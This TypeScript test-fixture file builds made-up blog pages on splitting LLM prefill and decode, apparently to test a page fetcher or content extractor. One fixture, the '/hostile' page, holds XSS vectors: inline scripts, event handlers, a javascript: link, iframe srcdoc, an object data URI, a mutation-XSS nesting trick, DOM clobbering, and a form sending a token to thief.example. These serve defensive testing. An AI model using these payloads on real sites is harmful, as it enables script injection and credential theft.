import { crc32, deflateSync } from "node:zlib";

/** Pages of a site that does not exist, in the shapes real ones have. All text is written for these tests. */

const paragraphs = [
  "A request to a language model has two lives. In the first it is read, all of it at once, and the chip is kept busy by arithmetic. In the second it answers, one word after another, and the chip waits for memory most of the time.",
  "Put both lives on one machine and each spoils the timetable of the other. A long prompt arrives, and everyone who was in the middle of an answer hears a pause. Batch the prompts together, and the first word comes late.",
  "The way out is old: two queues at two counters. One pool of machines only reads, the other only writes, and between them travels what was understood, a cache of keys and values that can be larger than the model's own weights.",
  "Whether that pays depends on the wire. Within a rack the handover is quick enough that nobody notices; across a building it may cost more than the interruption it avoids. Measure before you split, and measure again when prompts grow.",
  "Scheduling follows the same line of thought. A job that cannot start whole should not hold half of its chips, for two such jobs are enough to keep a cluster busy with nothing at all. Gangs start together or wait together.",
  "Quota is a promise about the worst day. On all other days the idle share of one team is of use to another, as long as it can be called back without losing the work that was done on it.",
  "What to watch, then, is not how busy the chips are but how long people wait: for the first word, and for every word after it. Autoscaling by utilisation answers a question that nobody asked.",
  "An engineer who keeps notes of such measurements learns more in a month than one who reads three papers a week, because the notes say what was surprising, and the papers rarely do.",
];

function page(options: {
  readonly title: string;
  readonly body: string;
  readonly language?: string;
  readonly head?: string;
  readonly site?: string;
}): string {
  const { title, body, language = "en", head = "", site = "Serving Notes" } = options;
  return `<!doctype html><html lang="${language}"><head><meta charset="utf-8"><title>${title} | ${site}</title>
<meta property="og:site_name" content="${site}"><meta property="og:title" content="${title}">${head}</head><body>
<header><nav><ul><li><a href="/">Home</a></li><li><a href="/about">About</a></li><li><a href="/archive">Archive</a></li></ul></nav></header>
<main><article><h1>${title}</h1><p class="byline">By Ada Kowalski</p>${body}</article></main>
<aside><h3>Subscribe</h3><form><input name="mail"><button>Join</button></form></aside>
<footer><p>All rights reserved. <a href="/privacy">Privacy</a></p></footer></body></html>`;
}

function long(): string {
  const sections = Array.from({ length: 24 }, (_, section) => {
    const text = paragraphs
      .map((paragraph, index) => `<p>${paragraph} (${section + 1}.${index + 1})</p>`)
      .join("");
    return `<h2>Part ${section + 1}</h2>${text}`;
  });
  return page({ title: "Why prefill and decode want different machines", body: sections.join("") });
}

const chineseParagraphs = [
  "把预填充和解码放在同一台机器上，看起来省事，其实两种工作互相拖累。预填充一次读完整个提示词，算力吃紧；解码一个字一个字地往外写，大部分时间在等显存。",
  "把它们拆开以后，调度就清楚了：一组机器只负责读，另一组只负责写，中间传递的是键值缓存。缓存有时比模型权重还大，所以网络的带宽决定了拆分是否划算。",
  "在同一个机架里，这次交接几乎感觉不到；跨机房的时候，代价可能比原来的卡顿还要高。先测量，再拆分；提示词变长以后，再测一次。",
  "自动扩缩容也一样。看利用率没有意义，要看用户等了多久：第一个字等了多久，后面的每一个字又等了多久。",
];

const chinese = page({
  title: "预填充与解码为什么要分开",
  language: "zh-CN",
  site: "推理手记",
  body: Array.from({ length: 6 }, () => chineseParagraphs.map((text) => `<p>${text}</p>`).join("")).join(""),
});

const code = page({
  title: "A queue for GPU jobs in forty lines",
  body: `<p>${paragraphs[4]}</p><pre><code class="language-yaml">apiVersion: batch/v1
kind: Job
metadata:
  name: train
spec:
  parallelism: 8
  template:
    spec:
      containers:
        - name: worker
          image: example/worker:1.4 # a line that is far too long for a phone and has to scroll sideways inside its own block
</code></pre><p>${paragraphs[5]}</p><pre><code class="language-go">func admit(queue []Job, free int) []Job {
	var started []Job
	for _, job := range queue {
		if job.Chips &lt;= free { started = append(started, job); free -= job.Chips }
	}
	return started
}</code></pre><p>${paragraphs[0]}</p><table><thead><tr><th>Pool</th><th>Waits</th></tr></thead><tbody><tr><td>read</td><td>90 ms</td></tr><tr><td>write</td><td>12 ms</td></tr></tbody></table><p>${paragraphs[6]}</p>`,
});

const pictures = page({
  title: "Two pools, drawn",
  body: `<p>${paragraphs[2]}</p><figure><img src="/picture.png" alt="Two pools and a wire"><figcaption>The wire decides.</figcaption></figure><p>${paragraphs[3]}</p><img data-src="/late.png" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="A late picture"><p>${paragraphs[6]}</p><img srcset="/small.png 320w, /large.png 1200w" alt="One of a set"><p>${paragraphs[7]}</p><img src="/missing.png" alt="A picture that is gone"><p>${paragraphs[1]}</p>`,
});

const base = page({
  title: "A page whose links start elsewhere",
  head: `<base href="/deep/down/">`,
  body: `<p>${paragraphs[0]} See <a href="next">the next page</a> and <a href="../up">the one above</a>.</p><p>${paragraphs[1]}</p><p>${paragraphs[3]}</p><img src="drawing.png" alt="A drawing"><p>${paragraphs[5]}</p>`,
});

const hostile = page({
  title: "A page that means no good",
  head: `<script>parent.stolen = 1</script>`,
  body: `<p onclick="window.stolen = 1">${paragraphs[0]}</p><script>window.stolen = 2</script><img src="x" onerror="window.stolen = 3" alt="bait"><p>${paragraphs[1]} <a href="javascript:window.stolen=4">a link that runs</a></p><iframe srcdoc="<script>parent.stolen = 5</script>"></iframe><svg onload="window.stolen = 6"><script>window.stolen = 7</script></svg><p style="position:fixed;inset:0">${paragraphs[2]}</p><math><mtext><table><mglyph><style><img src=x onerror="window.stolen = 8"></style></mglyph></table></mtext></math><form action="https://thief.example/"><input name="token"><button>Send</button></form><p>${paragraphs[3]}</p><object data="data:text/html,<script>parent.stolen = 9</script>"></object><a id="articles" name="app">clobber</a><p>${paragraphs[4]}</p>`,
});

/** The same article under another address, which names the first as its own. */
const canonical = code.replace("<head>", '<head><link rel="canonical" href="/code">');

const footnotes = page({
  title: "What the margins say",
  body: `<p>${paragraphs[0]}<sup><a href="#n1" id="r1">1</a></sup></p><h2 id="part">The second part</h2><p>${paragraphs[1]} See <a href="#part">the second part</a>.</p>${paragraphs
    .slice(2)
    .map((text) => `<p>${text}</p>`)
    .join("")}<ol><li id="n1">Measured on two machines in one rack. <a href="#r1">↩</a></li></ol>`,
});

const wide = page({
  title: "One wide drawing",
  body: `<p>${paragraphs[0]}</p><figure><img src="/wide.png" alt="A wide drawing"></figure>${paragraphs
    .slice(1)
    .map((text) => `<p>${text}</p>`)
    .join("")}`,
});

const tables = page({
  title: "Forty allocators, side by side",
  body: `<p>${paragraphs[0]}</p><p>${paragraphs[1]}</p><table><thead><tr>${Array.from({ length: 12 }, (_, column) => `<th>Measure ${column + 1}</th>`).join("")}</tr></thead><tbody>${Array.from({ length: 40 }, (_, row) => `<tr>${Array.from({ length: 12 }, (_, column) => `<td>${row * 12 + column} ms</td>`).join("")}</tr>`).join("")}</tbody></table><p>${paragraphs[5]}</p><p>${paragraphs[6]}</p>`,
});

/** A page that is edited between two visits: a paragraph before, another word, other markup. */
export const editedPage = (edited: boolean): string =>
  page({
    title: "The wire, revisited",
    body: `${edited ? `<p>Since this was written the numbers have changed; they are given below as measured today.</p>` : ""}<p>${paragraphs[0]}</p><p>${paragraphs[2]?.replace("two queues at two counters", edited ? "<b>two queues</b> at two counters" : "two queues at <em>two counters</em>")}</p><p>${paragraphs[3]}</p><p>${paragraphs[4]}</p><p>${paragraphs[6]}</p>`,
  });

/** A page whose measured number becomes another. */
export const measuredPage = (edited: boolean): string =>
  page({
    title: "The wire, measured",
    body: `<p>${paragraphs[0]}</p><p>${paragraphs[2]}</p><p>The median over the wire is ${edited ? "12.5" : "11.5"} ms.</p><p>${paragraphs[3]}</p><p>${paragraphs[4]}</p><p>${paragraphs[6]}</p>`,
  });

/** A page whose text is loaded by a script into a list of teasers: what is found is short against all of it. */
const thin = `<!doctype html><html lang="en"><head><title>Front page</title></head><body><div class="teasers">${paragraphs.map((text, index) => `<div class="t${index}"><a href="/x${index}">${text}</a></div>`).join("")}</div><article><p>Read on for more about all of this, in one short line.</p></article></body></html>`;

/** A short page whose head names another address as its own. */
const misnamed = (title: string, canonical: string): string =>
  `<!doctype html><html lang="en"><head><title>${title}</title><link rel="canonical" href="${canonical}"></head><body><main><article><h1>${title}</h1><p>${title}: a small workshop keeps its tools in order, and whoever takes the lathe on Mondays writes it into the book by the door.</p></article></main></body></html>`;

/** Pages that only their query tells apart, and that name one canonical address; undefined for other addresses. */
export function numberedPage(address: string): string | undefined {
  const url = new URL(address, "http://site.example");
  const [topic, post, query] = ["t", "p", "aa"].map((name) => url.searchParams.get(name));
  if (url.pathname === "/topic") return misnamed(`Topic ${topic}`, "/topic");
  if (url.pathname === "/" && post !== null) return misnamed(`Post ${post}`, "/");
  return url.pathname === "/q" && query !== null ? misnamed("Query", "/q") : undefined;
}

const persian = `<!doctype html><html lang="fa" dir="rtl"><head><meta charset="utf-8"><title>افزونه‌ی اصلی</title></head><body><main><article><h1>افزونه‌ی اصلی</h1>${"<p>این افزونه‌ی کوچک می‌تواند برنامه‌های شما را بدون شبکه نگه دارد و پایگاه‌داده را همگام‌سازی کند، هر روز صبح.</p>".repeat(6)}</article></main></body></html>`;

/** HTML pages by path. */
export const htmlPages: Readonly<Record<string, string>> = {
  "/long": long(),
  "/chinese": chinese,
  "/code": code,
  "/pictures": pictures,
  "/base": base,
  "/hostile": hostile,
  "/canonical": canonical,
  "/persian": persian,
  "/stale-canonical": misnamed("Thinking page", "/tutorial"),
  "/tutorial": misnamed("The tutorial", "/tutorial"),
  "/footnotes": footnotes,
  "/tables": tables,
  "/wide": wide,
  "/thin": thin,
  "/empty": `<!doctype html><title>Nothing</title><body><script src="/app.js"></script><div id="root"></div></body>`,
};

/** A Markdown file as a host of files serves it. */
export const markdownPage = `# Caching, from the ground up\n\n${paragraphs.map((text) => `${text}\n`).join("\n")}\n## What to keep\n\n- keys\n- values\n\n\`\`\`\nget(key)\n\`\`\`\n`;

/** A page in windows-1252 that says so in its header alone. */
export const latinPage = page({
  title: "Déjà vu en série",
  body: `<p>Un café, s'il vous plaît. ${paragraphs[0]}</p><p>${paragraphs[1]}</p><p>${paragraphs[2]}</p>`,
}).replace('<meta charset="utf-8">', "");

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

/** A plain picture (PNG, RFC 2083), with a little noise so that it does not pack to nothing. */
function pictureOf(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 2, 0, 0, 0], 8);
  const rows = Buffer.from(
    Uint8Array.from({ length: height * (1 + width * 3) }, (_, at) =>
      at % (1 + width * 3) === 0 ? 0 : 120 + (Math.imul(at, 2654435761) >>> 28),
    ),
  );
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([
    signature,
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(rows)),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

export const picture = pictureOf(64, 40);
/** Wider than any phone, and heavy. */
export const widePicture = pictureOf(2400, 800);
